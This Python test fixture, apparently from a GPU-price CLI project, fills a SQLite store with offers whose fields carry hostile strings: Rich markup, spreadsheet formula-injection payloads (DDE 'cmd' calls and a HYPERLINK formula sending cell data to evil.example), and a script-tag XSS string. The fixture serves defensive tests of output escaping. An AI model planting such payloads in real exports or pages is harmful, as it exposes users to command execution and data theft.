"""A store whose offers carry hostile provider strings (Rich markup, CSV formulas, HTML), for the CLI
tests of what is printed."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from gpuscout.catalog.offer import Offer
from gpuscout.catalog.snapshot_fingerprint import SNAPSHOT_SHA256
from gpuscout.catalog.sources.snapshot import SNAPSHOT_NAME
from gpuscout.catalog.store import Store

#: Rich markup a provider (or a user's offer file) may put in any text field.
MARKUP = [
    "[/]",
    "[link=https://evil.example]aws[/link]",
    "[bold red]x",
    "[/bold]",
    "\\[x]",
    "[on red]",
    "[/link]",
    "[red]",
]
#: Spreadsheet formulas (the audit's 17 payloads and separator / space variants).
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    " =1+1",
    ";=1+1",
    "x;=cmd|' /C calc'!A0",
    "=1+1",
    "x\t=1+1",
    "\uff1d1+1",
]
HTML = "<script>alert(1)</script>"


def hostile_offer(text: str, i: int) -> Offer:
    return Offer(
        provider=f"evil{i}{text}",
        instance_type=f"{text}",
        region=f"us-east-1{text}",
        zone=text,
        accelerator="H100-SXM",
        gpu_count=1,
        gpu_memory_gb=80.0,
        price_usd_per_hour=0.10 + i / 1000,
        spot_price_usd_per_hour=None,
        source=f"hostile:{text}",
        observed_at=datetime.now(UTC) - timedelta(hours=1),
        notes=text,
        billing_terms=None,
    )


def hostile_store(path: Path, texts: list[str]) -> str:
    """A SQLite store at ``path`` holding one cheap H100 offer per hostile text; returns its URL."""
    url = f"sqlite:///{path}"
    store = Store(url)
    store.write_snapshot(SNAPSHOT_NAME, [], fallback=True, fingerprint=SNAPSHOT_SHA256)
    offers = [hostile_offer(t, i) for i, t in enumerate(texts)]
    store.write_snapshot("hostile", offers)
    store.close()
    return url
